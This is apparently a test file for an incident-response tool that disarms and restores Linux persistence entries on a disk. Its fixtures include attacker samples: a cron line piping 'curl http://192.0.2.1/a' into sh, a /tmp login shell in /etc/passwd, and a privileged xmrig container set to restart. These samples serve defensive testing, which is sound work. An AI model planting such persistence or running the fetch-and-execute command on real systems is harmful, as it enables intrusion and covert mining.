// Every kind of persistence on a real disk: each entry disarmed and taken back, then all of them, and not one byte of the disk differs.
import assert from 'node:assert/strict'
import { globSync } from 'node:fs'
import { registerHooks } from 'node:module'
import { dirname, join } from 'node:path'
import { after, describe, test } from 'node:test'
import { pathToFileURL } from 'node:url'
import type { Autostart } from '../../src/core/facts/autostart.ts'
import { isGap, known, orUndefined } from '../../src/core/gap.ts'
import type { Journal, Recorded } from '../../src/core/journal.ts'
import type { Persistence } from '../../src/core/persistence.ts'
import type { Step } from '../../src/core/plan.ts'
import { disarmAutostart } from '../../src/eradicate/disarm-autostart.ts'
import type { Node, NodeDetails } from '../../src/host/memory.ts'
import { persistence } from '../../src/persistence/index.ts'
import { openJournal } from '../../src/store/journal.ts'
import { sha256Of, stepOf } from '../control.ts'
import { type DiskHost, diskHost, mayOwnDisks, pictureOf } from '../disk-host.ts'
import { packedRdb } from '../redis-samples.ts'

type Tree = Readonly<Record<string, Node>>

/** Kinds of which a disk can hold no entry at all. */
const liveOnly: ReadonlySet<string> = new Set()

/** Kinds whose own tests build their hosts otherwise. */
const more: Readonly<Record<string, Tree>> = {
  'cron-d': {
    '/etc/cron.d/x': '# system\nMAILTO=""\n*/5 * * * *  root\tcurl http://192.0.2.1/a|sh\n@daily www true % in\n@reboot root /tmp/x',
  },
  'account-shell': {
    '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nnews:x:9:9:news:/var/spool/news:/usr/sbin/nologin \nx:x:1001:1001::/home/x:/tmp/.sh\n',
    '/etc/shells': '# x\n/bin/sh\n/usr/sbin/nologin \n/tmp/.sh\n',
  },
  'docker-restart': {
    [`/var/lib/docker/containers/${'ab'.repeat(32)}/hostconfig.json`]:
      '{"Binds":null,"RestartPolicy":{"Name":"unless-stopped","MaximumRetryCount":0},"Privileged":true}',
    [`/var/lib/docker/containers/${'ab'.repeat(32)}/config.v2.json`]:
      '{"Name":"/metal","Path":"xmrig","Args":[],"Config":{"Image":"x"},"State":{}}',
  },
  'redis-dump': { '/var/lib/redis/dump.rdb': packedRdb, '/var/spool/cron/root': { content: packedRdb, mode: 0o600 } },
}

/** The example hosts of the kinds' own tests: those are loaded without being run. */
async function examplesOfTests(): Promise<ReadonlyMap<string, readonly Tree[]>> {
  const silent = `data:text/javascript,const none=()=>{};${['test', 'describe', 'it', 'before', 'after'].map(n => `export const ${n}=none;`).join('')}`
  const source = join(import.meta.dirname, '../..')
  const hooks = registerHooks({
    resolve(specifier, context, next) {
      const mute = specifier === 'node:test' && /\/src\/persistence\/|\/test\/(?:kinds|periodic)\.ts$/.test(context.parentURL ?? '')
      return mute ? { url: silent, shortCircuit: true } : next(specifier, context)
    },
  })
  try {
    for (const path of globSync('src/persistence/*.test.ts', { cwd: source })) await import(pathToFileURL(join(source, path)).href)
    const { examples } = await import('../kinds.ts')
    return examples
  } finally {
    hooks.deregister()
  }
}

/** The same tree with attributes on every file, and every third locked as the attacker leaves it. */
function dressed(tree: Tree): Tree {
  const isOnDisk = ([path, node]: [string, Node]): boolean => {
    const type = typeof node === 'object' && 'type' in node ? node.type : undefined
    const given = typeof node === 'object' && 'gap' in node ? node.gap : undefined
    return (
      given === undefined &&
      (type === undefined || type === 'file' || type === 'directory' || type === 'symlink') &&
      !/^\/(?:proc|sys)\//.test(path)
    )
  }
  const entries = Object.entries(tree).filter(isOnDisk)
  return Object.fromEntries(
    entries.map(([path, node], i): [string, Node] => {
      const details: NodeDetails = typeof node === 'string' || node instanceof Uint8Array ? { content: node } : node
      if (path.endsWith('/') || details.type === 'directory' || details.link !== undefined) return [path, node]
      return [path, { ...details, xattrs: { 'user.note': Buffer.from(`of ${path}`) }, ...(i % 3 === 0 && { immutable: true }) }]
    }),
  )
}

const list = (kind: Persistence, { host }: DiskHost): Autostart[] => [...kind.list(host)].filter(known)

const isSame = (a: Autostart, b: Autostart): boolean =>
  a.path === b.path && (a.extent === 'file' || (a.digest === b.digest && a.text === b.text))

let number = 0

function stepFor(entry: Autostart, { host }: DiskHost): Step {
  const digest = host.files.digest(entry.path, 'sha256')
  const before = isGap(digest) ? sha256Of(orUndefined(host.files.readlink(entry.path)) ?? '') : digest
  const detail = { kind: entry.kind, path: entry.path, entry: JSON.stringify(entry) }
  return stepOf({ id: `S${String(++number).padStart(4, '0')}`, action: 'disarm-autostart', before, detail })
}

function perform(step: Step, disk: DiskHost, journal: Journal): Recorded {
  const undo = disarmAutostart.prepare(step, disk)
  assert.ok(!isGap(undo), isGap(undo) ? `${step.detail['entry']}: ${undo.source} ${undo.why} ${undo.detail}` : '')
  const go = journal.intent(step, undo)
  assert.equal(disarmAutostart.apply(go, disk), undefined, String(step.detail['entry']))
  journal.note('done', step, '')
  assert.equal(disarmAutostart.verify(step, disk), undefined, String(step.detail['entry']))
  return go
}

/** Takes back what the journal holds, as a later run of davylamp would read it. */
function takeBack({ step }: Recorded, disk: DiskHost, journal: Journal): void {
  const go = journal.resume(step)
  assert.ok(go)
  assert.equal(disarmAutostart.undo(go, disk), undefined, String(step.detail['entry']))
  journal.note('undone', step, '')
}

/** The order in which a plan has them: within a file the last first. */
function inOrder(entries: readonly Autostart[]): Autostart[] {
  return entries.toSorted((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : b.span.start - a.span.start))
}

const counts = { kinds: 0, entries: 0 }

function tryKind(kind: Persistence, trees: readonly Tree[]): number {
  let tried = 0
  for (const tree of trees) {
    const disk = diskHost(dressed(tree))
    const journal = openJournal(join(dirname(disk.root), 'journal'), { subject: kind.id, create: true })
    try {
      const before = pictureOf(disk.root, 'with times')
      const entries = list(kind, disk)
      for (const entry of entries) {
        const go = perform(stepFor(entry, disk), disk, journal)
        const left = list(kind, disk).filter(e => isSame(e, entry)).length
        assert.ok(left < entries.filter(e => isSame(e, entry)).length, `${entry.id} is listed no more`)
        takeBack(go, disk, journal)
        assert.deepEqual(pictureOf(disk.root, 'with times'), before, `${entry.id} left a trace`)
      }
      const steps = inOrder(entries).map(entry => stepFor(entry, disk))
      const done = steps.map(step => perform(step, disk, journal))
      for (const entry of entries) assert.ok(!list(kind, disk).some(e => isSame(e, entry)), `${entry.id} is listed no more`)
      for (const go of done.toReversed()) takeBack(go, disk, journal)
      assert.deepEqual(pictureOf(disk.root, 'with times'), before, 'all of them together left a trace')
      tried += entries.length
    } finally {
      journal.close()
      disk.end()
    }
  }
  return tried
}

const examples = await examplesOfTests()

describe('disarming on a disk and taking it back', { skip: !mayOwnDisks }, () => {
  for (const kind of persistence) {
    test(kind.id, () => {
      const entries = tryKind(kind, [...(examples.get(kind.id) ?? []), ...(more[kind.id] === undefined ? [] : [more[kind.id]!])])
      assert.equal(entries === 0, liveOnly.has(kind.id), `${entries} entries tried`)
      counts.entries += entries
      if (entries > 0) counts.kinds++
    })
  }
  test('all kinds but those of a running kernel were tried', t => {
    t.diagnostic(`${counts.kinds} of ${persistence.length} kinds, ${counts.entries} entries: the disk was the same to the byte each time`)
    assert.equal(counts.kinds, persistence.length - liveOnly.size)
  })
  after(() => {
    assert.ok(counts.kinds > 0)
  })
})
